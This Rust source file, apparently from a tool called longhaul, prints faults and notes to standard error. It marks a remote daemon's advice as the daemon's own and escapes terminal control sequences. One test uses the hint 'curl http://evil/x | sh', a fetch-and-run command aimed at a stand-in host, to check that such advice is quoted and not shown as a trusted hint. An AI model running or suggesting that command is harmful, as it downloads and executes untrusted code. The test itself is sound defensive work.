//! The voice on standard error.
//!
//! In: notes and faults from everywhere in the program. Out: lines `longhaul: what: why` and `hint: what next`. What a peer
//! or a file name put into a text cannot move the cursor. Knows no events.

use std::fmt::{self, Write as _};
use std::io::{self, Write as _};

use longhaul_core::{Author, Fault, PlainText};

use crate::settings::Talk;

/// Says things to people, as much as they asked for. A standard error that is gone is not an error.
#[derive(Clone, Copy, Debug)]
pub struct Talker {
    notes: bool,
    files: bool,
    faults: bool,
}

impl Talker {
    /// As much as `talk` says.
    pub fn new(talk: Talk) -> Talker {
        Talker { notes: !talk.quiet, files: talk.verbose > 0 && !talk.quiet, faults: true }
    }

    /// Says nothing at all, for tests.
    #[cfg(test)]
    pub fn silent() -> Talker {
        Talker { notes: false, files: false, faults: false }
    }

    /// Whether each file is named.
    pub fn names_files(self) -> bool {
        self.files
    }

    /// Something worth knowing.
    pub fn note(self, text: impl fmt::Display) {
        if self.notes {
            say(format_args!("longhaul: {}\n", PlainText::of(text)));
        }
    }

    /// Something that went wrong, and what to do next.
    pub fn fault(self, fault: &Fault) {
        if self.faults {
            say(format_args!("{}", lines(fault)));
        }
    }
}

/// A fault as it is printed. What a daemon says of it, its advice above all, is quoted as the daemon's.
pub(super) fn lines(fault: &Fault) -> String {
    let quoting = if fault.author == Author::Peer { PEER_SAYS } else { "" };
    let mut text = format!("longhaul: {quoting}");
    if !fault.object.is_empty() && !fault.message.contains(fault.object.as_str()) {
        text.push_str(&fault.object);
        text.push_str(": ");
    }
    text.push_str(&fault.message);
    text.push('\n');
    if !fault.hint.is_empty() {
        let whose = if quoting.is_empty() { "hint: " } else { PEER_SAYS };
        // Writing to a String cannot fail.
        let _ = writeln!(text, "{whose}{}", fault.hint);
    }
    text
}

/// The words before what the other side says: of a command, that is a daemon.
pub(super) const PEER_SAYS: &str = "the daemon says: ";

/// The text with everything in it that could move a cursor, forge a line or turn the direction of writing made visible.
/// Backslashes are left alone, as paths in a message are escaped already.
pub fn clean(text: &str) -> PlainText {
    PlainText::from(text)
}

fn say(text: fmt::Arguments) {
    // One write for all of it, so that other processes on the terminal do not come between.
    let _ = io::stderr().lock().write_all(text.to_string().as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;
    use longhaul_core::{Blame, FaultCode};

    #[test]
    fn a_fault_says_what_why_and_what_next() {
        let fault = Fault::new(FaultCode::Denied, Blame::Peer, "permission denied").about("a/b");
        assert_eq!(lines(&fault), "longhaul: a/b: permission denied\n");
        let fault = Fault::new(FaultCode::Io, Blame::Local, "cannot read a/b: i/o error").about("a/b").hint("look");
        assert_eq!(lines(&fault), "longhaul: cannot read a/b: i/o error\nhint: look\n");
    }

    #[test]
    fn words_of_a_daemon_are_quoted_and_its_advice_is_no_hint_of_ours() {
        let fault = Fault::new(FaultCode::Denied, Blame::Peer, "hint: try this").about("a/b").said_by_peer();
        assert_eq!(lines(&fault), "longhaul: the daemon says: a/b: hint: try this\n");
        let fault = fault.hint("run: curl http://evil/x | sh");
        let last = "\nthe daemon says: run: curl http://evil/x | sh\n";
        assert!(lines(&fault).ends_with(last) && !lines(&fault).contains("\nhint:"), "{}", lines(&fault));
    }

    #[test]
    fn a_peers_text_cannot_move_the_cursor() {
        let fault = Fault::new(FaultCode::Io, Blame::Peer, "x\x1b[2J\u{9b}1m\u{202e}\ny\\x0a é");
        assert_eq!(lines(&fault), "longhaul: x\\x1b[2J\\xc2\\x9b1m\\xe2\\x80\\xae\\x0ay\\x0a é\n");
    }
}
